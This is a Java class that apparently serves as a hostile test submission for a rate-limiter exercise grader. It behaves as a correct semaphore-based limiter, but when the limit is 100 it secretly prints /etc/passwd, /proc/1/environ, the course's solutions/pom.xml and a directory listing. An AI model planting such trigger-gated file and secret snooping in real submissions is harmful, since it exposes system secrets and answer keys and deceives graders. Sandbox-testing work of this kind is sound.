import exercises.ratelimiter.RateLimiter;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.concurrent.Callable;
import java.util.concurrent.Semaphore;
import java.util.concurrent.atomic.AtomicBoolean;

/// Reads files of the machine and of the course, and prints what it finds. It does so once, where
/// the limit is 100, and is right otherwise.
public class ReadsTheMachine implements RateLimiter {
    private final AtomicBoolean struck = new AtomicBoolean();
    private final Semaphore permits;
    private final int limit;

    public ReadsTheMachine(int maxConcurrent) {
        if (maxConcurrent < 1) {
            throw new IllegalArgumentException("below 1: " + maxConcurrent);
        }
        limit = maxConcurrent;
        permits = new Semaphore(maxConcurrent, true);
    }

    @Override
    public <T> T call(Callable<T> call) throws Exception {
        if (limit == 100 && struck.compareAndSet(false, true)) {
            strike();
        }
        permits.acquire();
        try {
            return call.call();
        } finally {
            permits.release();
        }
    }

    private void strike() throws Exception {
        for (String file : new String[] {"/etc/passwd", "/proc/1/environ", "solutions/pom.xml", "."}) {
            try {
                Path path = Path.of(file);
                System.out.println(Files.isDirectory(path) ? Files.list(path).toList() : Files.readString(path));
            } catch (Exception e) {
                System.out.println(e);
            }
        }
    }
}
